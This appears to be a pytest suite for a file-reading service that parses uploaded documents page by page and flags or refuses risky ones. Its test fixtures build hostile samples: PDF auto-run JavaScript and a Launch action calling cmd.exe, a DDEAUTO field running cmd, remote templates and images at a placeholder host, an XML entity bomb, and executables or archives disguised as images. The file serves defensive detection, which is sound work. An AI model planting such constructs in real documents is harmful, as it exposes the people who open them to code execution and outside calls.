"""Every accepted type is read page by page; what hides something is marked or refused, and never served before that."""

from __future__ import annotations

import io

import files
import pytest
from files import make_file, replaced, with_member

PAGES = ["Allotissement des denrées : lot un.", "Sous-traitance et délais, deuxième page."]


@pytest.mark.parametrize("kind", ["pdf", "xlsx", "ods", "pptx", "odp"])
def test_what_has_pages_is_read_page_by_page(examined, without_office, kind):
    found = examined(make_file(kind, PAGES), f"piece.{kind}")
    assert (found.state, found.reason, found.text_state) == ("ready", "", "done")
    assert found.facts["pages"] == 2
    assert [text for _label, text in found.pages] == PAGES
    unit = {"pdf": "Page 2", "pptx": "Diapositive 2", "odp": "Diapositive 2"}.get(kind, "Feuille 2")
    assert found.pages[1][0] == unit


@pytest.mark.parametrize("kind", ["docx", "odt", "txt", "md"])
def test_what_has_none_is_read_in_parts(examined, without_office, kind):
    found = examined(make_file(kind, PAGES), f"piece.{kind}")
    assert (found.state, found.text_state) == ("ready", "done")
    assert all(text in found.words for text in PAGES)
    assert found.facts["unit"] == "part"


def test_a_text_document_is_numbered_by_its_real_pages(examined):
    """LibreOffice lays it out: an explicit break makes a page, and its image is that page's."""
    found = examined(make_file("docx", PAGES), "piece.docx")
    assert (found.facts["unit"], found.facts["pages"], found.facts["previews"]) == ("page", 2, 2)
    assert [label for label, _text in found.pages] == ["Page 1", "Page 2"]
    assert "deuxième page" in found.pages[1][1]


def test_a_word_file_says_where_its_pages_end(examined, without_office):
    """Word notes where each page ended: those numbers are kept even where nothing can lay the text out."""
    mark = b"<w:r><w:lastRenderedPageBreak/><w:t>"
    content = replaced(
        make_file("docx", "Avant.\nApr\u00e8s le saut."), "word/document.xml", b"<w:r><w:t>Apr", mark + b"Apr"
    )
    found = examined(content, "piece.docx")
    assert found.pages == [("Page 1", "Avant."), ("Page 2", "Après le saut.")]


def test_a_table_keeps_its_rows(examined, without_office):
    from docx import Document

    document = Document()
    table = document.add_table(2, 2)
    for cell, text in zip(
        (cell for row in table.rows for cell in row.cells), ["Critère", "Poids", "Prix", "40 %"], strict=True
    ):
        cell.text = text
    found = examined(files._saved(document), "grille.docx")
    assert "Critère | Poids" in found.words
    assert "Prix | 40 %" in found.words


def test_a_long_sheet_gives_pages_named_by_their_rows(examined, without_office):
    found = examined(
        make_file("xlsx", "\n".join(f"Article {n}\tFourniture de légumes" for n in range(1, 301))), "prix.xlsx"
    )
    assert found.facts["pages"] == 1
    assert found.facts["parts"] == len(found.pages) > 2
    label, text = found.pages[1]
    first = int(label.split()[3])
    assert label.startswith(f"Feuille 1, lignes {first} à ")
    assert text.startswith(f"Article {first} |")


@pytest.mark.parametrize(
    ("content", "name"),
    [
        ("é;œuvre;prix €\n1;2;3".encode("cp1252"), "a.csv"),
        ("\ufeffé;œuvre;prix €".encode(), "b.csv"),
        ("é œuvre prix €".encode("utf-16"), "c.txt"),
    ],
)
def test_encodings(examined, content, name):
    assert "œuvre" in examined(content, name).words


@pytest.mark.parametrize(("kind", "code"), [("doc", "legacy"), ("xls", "legacy")])
def test_old_formats_are_kept_and_not_read(examined, kind, code):
    found = examined(make_file(kind), f"ancien.{kind}")
    assert (found.state, found.reason, found.pages) == ("download_only", code, [])


@pytest.mark.parametrize("kind", ["png", "jpg", "webp"])
def test_images_get_a_preview(examined, kind):
    found = examined(make_file(kind), f"photo.{kind}")
    assert (found.state, found.text_state, found.facts["previews"]) == ("ready", "none", 1)


@pytest.fixture
def judged(tmp_path):
    """``judged(content, extension)``: the state and the reason that looking at it and reading it lead to."""
    from community.abilities.reading import sandboxed
    from community.abilities.reading.verdicts import verdict

    def run(content: bytes, extension: str) -> tuple[str, str]:
        path = tmp_path / "content"
        path.write_bytes(content)
        arguments = {"path": str(path), "extension": extension}
        findings = sandboxed.look(arguments)["findings"]
        if verdict(findings)[0] != "refused":
            failed = sandboxed.read({**arguments, "out": str(tmp_path / "pages"), "seconds": 9}).get("failed")
            findings += [failed] if failed else []
        return verdict(findings)

    return run


def action_pdf(catalog: bytes = b"", more: list[bytes] | None = None) -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *(more or []),
    ]
    return files._pdf_file(objects)


def pdf_with_file() -> bytes:
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make_file("pdf"))) as document:
        document.attachments["facture.xml"] = b"<facture/>"
        document.save(out)
    return out.getvalue()


def dde_docx() -> bytes:
    code = b'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO c:\\\\x cmd</w:instrText></w:r><w:r><w:t>Mots'
    return replaced(make_file("docx", "Mots"), "word/document.xml", b"<w:r><w:t>Mots", code)


def remote_template() -> bytes:
    relation = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://mechant.example/m.dotm" TargetMode="External"/></Relationships>'
    )
    return replaced(make_file("docx"), "word/_rels/document.xml.rels", b"</Relationships>", relation)


def odt_with(element: str) -> bytes:
    names = (
        b'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
    )
    content = files._odf("text", f"<office:text>{element}</office:text>")
    return replaced(content, "content.xml", b"<office:document-content ", b"<office:document-content " + names + b" ")


def with_doctype() -> bytes:
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><w:document'
    return replaced(make_file("docx"), "word/document.xml", b"<w:document", bomb)


MARKED = {
    "javascript": (lambda: action_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "pdf", "active"),
    "javascript-away": (
        lambda: action_pdf(
            b"/Names << /JavaScript 4 0 R >>", [b"<< /Names [(a) 5 0 R] >>", b"<< /S /JavaScript /JS (1) >>"]
        ),
        "pdf",
        "active",
    ),
    "javascript-spelled": (lambda: action_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (1) >>"), "pdf", "active"),
    "launch": (lambda: action_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf", "active"),
    "file-inside-pdf": (pdf_with_file, "pdf", "embedded"),
    "object-inside": (
        lambda: with_member(make_file("docx"), "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0rest"),
        "docx",
        "embedded",
    ),
    "sheet-inside": (
        lambda: with_member(make_file("docx"), "word/embeddings/Feuille.xlsx", make_file("xlsx")),
        "docx",
        "embedded",
    ),
    "remote-template": (remote_template, "docx", "calls_outside"),
    "dde": (dde_docx, "docx", "calls_outside"),
    "remote-image-odt": (
        lambda: odt_with('<text:p><draw:image xlink:href="https://mechant.example/p.png"/></text:p>'),
        "odt",
        "calls_outside",
    ),
    "macro-event-odt": (
        lambda: odt_with('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
        "odt",
        "active",
    ),
    "not-a-pdf": (lambda: b"%PDF-1.7\n" + b"rien " * 300 + b"\nstartxref\n0\n%%EOF", "pdf", "unreadable"),
    "doctype": (with_doctype, "docx", "unreadable"),
    "not-xml": (
        lambda: replaced(make_file("odt"), "content.xml", b"<office:body>", b"<office:bdoy>"),
        "odt",
        "unreadable",
    ),
}


@pytest.mark.parametrize("name", MARKED)
def test_what_hides_something_is_download_only(judged, name):
    content, kind, code = MARKED[name]
    assert judged(content(), kind) == ("download_only", code)


REFUSED = {
    "password": (files.encrypted_pdf, "pdf", "password"),
    "program-inside": (
        lambda: with_member(make_file("docx"), "word/media/image1.png", b"MZ\x90\0" * 20),
        "docx",
        "archive",
    ),
    "archive-inside": (
        lambda: with_member(make_file("xlsx"), "xl/media/image1.png", b"Rar!\x1a\x07\0" * 9),
        "xlsx",
        "archive",
    ),
    "ratio-in-one-member": (
        lambda: with_member(
            with_member(make_file("docx"), "word/media/a.bin", __import__("random").Random(1).randbytes(200_000)),
            "word/zeros.xml",
            b"<a>" + b" " * 9_000_000 + b"</a>",
        ),
        "docx",
        "bomb",
    ),
    "activex": (lambda: with_member(make_file("docx"), "word/activeX/activeX1.bin", b"x"), "docx", "macros"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_dangerous_is_refused(judged, name):
    content, kind, code = REFUSED[name]
    assert judged(content(), kind) == ("refused", code)


def test_what_is_refused_leaves_no_words_and_no_image(examined, without_office):
    found = examined(files.encrypted_pdf(), "protege.pdf")
    assert (found.state, found.reason, found.pages) == ("refused", "password", [])
    assert not found.facts.get("previews")


def test_what_is_marked_is_read_all_the_same(examined, without_office):
    """A form with code in it (many official ones have some) is found by its words; only its mark tells it apart."""
    found = examined(pdf_with_file(), "facture.pdf")
    assert (found.state, found.reason, found.text_state) == ("download_only", "embedded", "done")
    assert found.words == "Allotissement des denrées"


def test_an_image_cut_short_is_refused(examined):
    found = examined(make_file("png")[:70], "coupee.png")
    assert (found.state, found.reason) == ("refused", "broken_image")


def test_an_owner_password_alone_does_not_hinder(examined):
    """Many PDFs only forbid printing: they open without a password, and are read."""
    found = examined(files.encrypted_pdf(user=""), "limite.pdf")
    assert found.state == "ready"
    assert found.words == "Secret"


def test_every_code_has_its_words(context):
    from community.abilities.reading.verdicts import CODES, reason_words, verdict

    assert all(reason_words(code) for code in CODES.values())
    assert verdict([]) == ("ready", "")
    assert verdict(["code", "macros"]) == ("refused", "macros")


def test_others_hear_of_it(examined, app):
    """« file.examined » was emitted and handled: nothing waits any more."""
    from community.core.outbox import pending

    examined(make_file("txt"), "a.txt")
    with app.app_context():
        assert pending() == 0
